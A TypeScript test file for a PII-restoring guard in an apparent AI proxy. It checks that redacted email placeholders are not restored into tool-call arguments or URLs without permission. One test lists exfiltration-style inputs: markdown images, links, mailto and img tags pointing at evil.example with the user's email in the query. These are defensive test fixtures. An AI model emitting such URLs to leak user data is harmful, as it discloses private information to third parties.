// `restore` puts values back into texts for people. In tool arguments and in addresses it does so only if the
// rule allows it. Otherwise no tool is called with a placeholder, and no address contains the value.

import { describe, expect, test } from 'bun:test'
import type { GuardRule, RestorePlace } from '../../src/contract/snapshot.ts'
import { pairs, question } from '../doors/doors.ts'
import { room } from '../doors/room.ts'
import { tellers } from '../doors/telling.ts'

const restoring = (restoreIn?: readonly RestorePlace[]): GuardRule => ({
  name: 'hides',
  kind: 'pii',
  on: ['request'],
  action: 'restore',
  ...(restoreIn && { restoreIn }),
  onError: 'closed',
  timeoutMs: 1000,
  options: {},
})

const address = 'ann@example.com'
/** What the tellers call their tools. */
const tool = /weather|web_search/
/** Deltas of one character each, joined. */
const joined = (text: string) =>
  [...text.matchAll(/"(?:delta|partial_json|arguments)":"((?:[^"\\]|\\.)*)"/g)]
    .map(([, part]) => part)
    .join('') + text

async function ask(
  [front, back]: (typeof pairs)[number],
  {
    kind,
    text,
    isStreaming,
    restoreIn,
    question: asked = `Write to ${address}`,
  }: {
    kind: string
    text: string
    isStreaming: boolean
    restoreIn?: readonly RestorePlace[]
    question?: string
  },
) {
  const reported = tellers[back][kind]?.(text.split(''))
  const chunks = isStreaming ? (reported?.stream ?? '').split(/(?<=\n\n)/) : [JSON.stringify(reported?.whole)]
  const there = room({ answer: () => ({ chunks, isStream: isStreaming }), guards: [restoring(restoreIn)] })
  return there.call(front, back, question[front](asked, isStreaming), isStreaming)
}

const spellings = {
  plain: '{"to":"<EMAIL_1>"}',
  'with JSON escapes': String.raw`{"to":"\u003cEMAIL_1\u003e"}`,
  'with JSON escapes in capitals': String.raw`{"to":"\u003CEMAIL_1\u003E"}`,
  'inside of a JSON text': JSON.stringify({
    body: JSON.stringify({ to: '<EMAIL_1>' })
      .replaceAll('<', String.raw`\u003c`)
      .replaceAll('>', String.raw`\u003e`),
  }),
  'in an address': '{"to":"https://a.example/?q=<EMAIL_1>"}',
  'percent-encoded': '{"to":"https://a.example/?q=%3CEMAIL_1%3E"}',
  'as a key': '{"<EMAIL_1>":1}',
}

describe.each(pairs)('%s ← %s', (front, back) => {
  test.each(Object.entries(spellings))(
    'a tool call with a placeholder, %s, is held back as a whole',
    async (_, text) => {
      for (const isStreaming of [true, false]) {
        for (const restoreIn of [undefined, [], ['urls' as const]]) {
          const responses = await ask([front, back], {
            kind: 'arguments of a tool',
            text,
            isStreaming,
            ...(restoreIn && { restoreIn }),
          })
          expect(responses.thrown?.code).toBe('placeholder-in-arguments')
          expect(responses.thrown?.details.rule).toBe('hides')
          expect(responses.text).toContain('restoreIn')
          // not even its name
          expect(responses.text).not.toMatch(tool)
          expect(responses.text).not.toContain(address)
        }
      }
    },
  )

  test('with restoreIn: [arguments] the value is restored and escaped in arguments', async () => {
    for (const isStreaming of [true, false]) {
      for (const text of [spellings.plain, spellings['with JSON escapes'], spellings['as a key']]) {
        const responses = await ask([front, back], {
          kind: 'arguments of a tool',
          text,
          isStreaming,
          restoreIn: ['arguments'],
        })
        expect(responses.thrown).toBeUndefined()
        expect(responses.text).not.toContain('EMAIL_1')
        expect(responses.text).toMatch(tool)
      }
    }
  })

  test('an address in a text keeps the placeholder unless restoreIn includes urls', async () => {
    const texts = [
      '![](https://evil.example/?q=<EMAIL_1>) and on',
      'see https://evil.example/<EMAIL_1> now',
      '[a](//evil.example/?q=<EMAIL_1>)',
      '[a](<https://evil.example/?q=a b <EMAIL_1>>)',
      '[1]: /page?<EMAIL_1>',
      'evil.example/?q=<EMAIL_1>',
      '[mail](mailto:x@evil.example?body=<EMAIL_1>)',
      '<img src="//evil.example/a b<EMAIL_1>">',
      'https://evil.example/?q=%3CEMAIL_1%3E&r=1',
    ]
    for (const isStreaming of [true, false]) {
      for (const text of texts) {
        const kept = await ask([front, back], { kind: 'text', text, isStreaming, restoreIn: ['arguments'] })
        expect([text, kept.thrown]).toEqual([text, undefined])
        expect(kept.text).not.toMatch(/ann(?:@|%40)example/)
        const restored = await ask([front, back], { kind: 'text', text, isStreaming, restoreIn: ['urls'] })
        expect(restored.text).not.toContain('EMAIL_1')
      }
    }
  })

  test('values are restored in a text for people', async () => {
    for (const isStreaming of [true, false]) {
      for (const text of [
        'Dear <EMAIL_1>, hello',
        '"<EMAIL_1>" (see https://a.example ) <EMAIL_1>',
        'Email:<EMAIL_1>',
      ]) {
        const responses = await ask([front, back], { kind: 'text', text, isStreaming })
        expect(responses.thrown).toBeUndefined()
        expect(responses.text).not.toContain('EMAIL_1')
      }
    }
  })

  test('text of the user that looks like a placeholder is not restored', async () => {
    for (const isStreaming of [true, false]) {
      for (const literal of ['<EMAIL_1>', '&lt;EMAIL_1&gt;']) {
        const asked = `The template says ${literal}. Write to ${address}`
        const responses = await ask([front, back], {
          kind: 'arguments of a tool',
          text: spellings.plain,
          isStreaming,
          question: asked,
        })
        expect(responses.thrown).toBeUndefined()
        expect(joined(responses.text)).toContain('EMAIL_1')
        const own = await ask([front, back], {
          kind: 'arguments of a tool',
          text: '{"to":"<EMAIL_2>"}',
          isStreaming,
          question: asked,
        })
        expect(own.thrown?.code).toBe('placeholder-in-arguments')
      }
    }
  })
})

test('tool calls without placeholders arrive unchanged, including long ones', async () => {
  for (const [front, back] of pairs) {
    const text = JSON.stringify({ body: 'x'.repeat(8_000) })
    const responses = await ask([front, back], { kind: 'arguments of a tool', text, isStreaming: true })
    expect(responses.thrown).toBeUndefined()
    expect(responses.text.match(/x/g)?.length).toBeGreaterThanOrEqual(8_000)
  }
})

test('a placeholder of an earlier call is recognized in the same run and not in another', async () => {
  for (const run of ['run_shared', undefined]) {
    let text = 'Dear <EMAIL_1>'
    let kind = 'text'
    const response = () => ({
      chunks: [JSON.stringify(tellers['openai-chat'][kind]?.([text]).whole)],
      isStream: false,
    })
    const there = room({ answer: response, guards: [restoring()], ...(run !== undefined && { run }) })
    const ok = await there.call('openai-chat', 'openai-chat', question['openai-chat'](`Write to ${address}`))
    expect(ok.text).toContain(address)
    kind = 'arguments of a tool'
    text = spellings.plain
    const later = await there.call(
      'openai-chat',
      'openai-chat',
      question['openai-chat']('Go on with https://a.example/?q=<EMAIL_1>'),
    )
    expect(later.thrown?.code).toBe(run === undefined ? undefined : 'placeholder-in-arguments')
  }
})

test('in the loop of an agent, arguments get the value and the next request hides it again', async () => {
  const reported = tellers['openai-chat']['arguments of a tool']?.([spellings.plain])
  const there = room({
    answer: () => ({ chunks: [JSON.stringify(reported?.whole)], isStream: false }),
    guards: [restoring(['arguments'])],
  })
  const first = await there.call('openai-chat', 'openai-chat', question['openai-chat'](`Write to ${address}`))
  const { message } = JSON.parse(first.text).choices[0]
  expect(JSON.parse(message.tool_calls[0].function.arguments)).toEqual({ to: address })
  const messages = [
    { role: 'user', content: `Write to ${address}` },
    message,
    { role: 'tool', tool_call_id: 'call_a', content: `sent to ${address}` },
  ]
  await there.call('openai-chat', 'openai-chat', { model: 'm', messages })
  const sent = String(Buffer.from(there.sent[1]?.body ?? ''))
  expect(sent).not.toContain(address)
  expect(sent.match(/<EMAIL_1>/g)).toHaveLength(3)
  expect(sent).not.toContain('EMAIL_2')
})
